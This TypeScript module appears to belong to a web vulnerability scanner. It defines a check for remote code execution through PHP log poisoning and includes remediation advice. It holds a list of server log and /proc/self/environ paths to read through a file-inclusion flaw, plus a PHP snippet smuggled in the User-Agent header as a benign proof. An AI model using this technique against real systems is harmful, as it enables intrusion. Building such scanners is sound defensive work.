import { defineChainStep } from '../checks/contract.ts';
import { siteRoots } from '../checks/pages/folders.ts';
import { claim, type Experiment, type Step } from '../model/experiment.ts';

type Poisoned = { root: string; log: string; name: string };

const maxFileBytes = 1024 * 1024;
/** Where web servers and applications write what they are asked. Sources: defaults of Debian, Red Hat, nginx and Apache; proc(5). */
const logs = [
  'var/log/apache2/access.log',
  'var/log/nginx/access.log',
  'var/log/httpd/access_log',
  'var/log/apache2/other_vhosts_access.log',
  'var/log/lighttpd/access.log',
  'proc/self/cwd/logs/access.log',
  'proc/self/cwd/log/access.log',
  'proc/self/cwd/access.log',
  'proc/self/environ',
];

/** A log that visitors write into is included as a program. Source: CWE-98 with CWE-117, WSTG-INPV-11.1. */
export const logPoisoning = defineChainStep<Poisoned>({
  id: 'chains.log-poisoning',
  title: 'Remote code execution by log poisoning (PHP)',
  cwe: 98,
  owasp: 'A05:2025',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  risk: 'caution',
  needs: [{ kind: 'file-reading' }],
  goal: 'code',
  cost: 14,

  async detect(context, [reading]) {
    const [root] = siteRoots(context.surface);
    const { url = '', slash = '/' } = reading?.attributes ?? {};
    if (root === undefined || context.writes !== 'create') return [];
    const word = context.nonce(12);
    const headers = [['User-Agent', word]] as const;
    await context.http.get(root, { fresh: true, headers });
    for (const name of logs) {
      const log = url.replace('‹path›', () => name.replaceAll('/', slash));
      const { status, text } = await context.http.get(log, { fresh: true, headers, maxBodyBytes: maxFileBytes });
      if (status !== 200 || !text.includes(word)) continue;
      return [
        {
          location: { url: log },
          detail: `Code in the User-Agent of a visit was run from /${name}.`,
          data: { root, log, name },
        },
      ];
    }
    return [];
  },

  confirm: (_context, { data }) => data && experimentFor(data),

  explain: {
    description:
      'The input that reads files includes them as programs of PHP, and a log that is read in this way holds what visitors send: code in a header of a visit was run.',
    impact:
      'Everybody runs any code with the rights of the application: reads its files, settings and keys, changes its data, and goes on to other systems from there.',
    sends:
      'With `writes: "create"` only: a visit with a random word as its User-Agent, GET requests for up to 9 usual logs, and three visits whose User-Agent prints a product of two random numbers. These lines stay in the log, recorded before they are sent.',
    proves:
      'The log, read by the input, has the product of two random numbers, which only the code in the header gives; with the opening tag of the code misspelt it has none. An attacker runs code.',
    remedy:
      'Choose what is included by a table, and never put a value into the name of a file: `$pages = ["home" => "home.php"]; include $pages[$_GET["page"]] ?? "home.php";`. Show texts with `readfile`, which runs nothing. Give the account of the application no right to read the logs of the server, and set `open_basedir`.',
    references: [
      'CWE-98: https://cwe.mitre.org/data/definitions/98.html',
      'CWE-117: https://cwe.mitre.org/data/definitions/117.html',
      'WSTG-INPV-11.1: https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.1-Testing_for_File_Inclusion',
    ],
  },
});

function experimentFor({ root, log, name }: Poisoned): Experiment {
  const lasting = { description: `A line of a visit is kept in /${name}.`, place: log };
  const visit = (agent: string, note: string): Step => ({
    http: { url: root, headers: [['User-Agent', agent]], lasting },
    note,
    expect: [claim('status', 'less-than', '500')],
    hasEffect: true,
  });
  const look = (result: string, note: string): Step => ({
    http: { url: log, headers: [['User-Agent', '‹nonce5›']] },
    note,
    expect: [claim('body', 'contains', result, 'The product, which stands in no request.')],
  });
  return {
    steps: [
      visit('‹nonce›<?php echo ‹int›*‹int2›;?>‹nonce2›', 'A visitor has code as the name of the browser.'),
      look('‹nonce›‹product:int:int2›‹nonce2›', 'The log is read by the input, and the code in it was run.'),
    ],
    control: [
      visit('‹nonce3›<?phq echo ‹int3›*‹int4›;?>‹nonce4›', 'The same with the opening tag of the code misspelt.'),
      look('‹nonce3›‹product:int3:int4›‹nonce4›', 'It is no code, and the log has it as it was sent.'),
    ],
  };
}
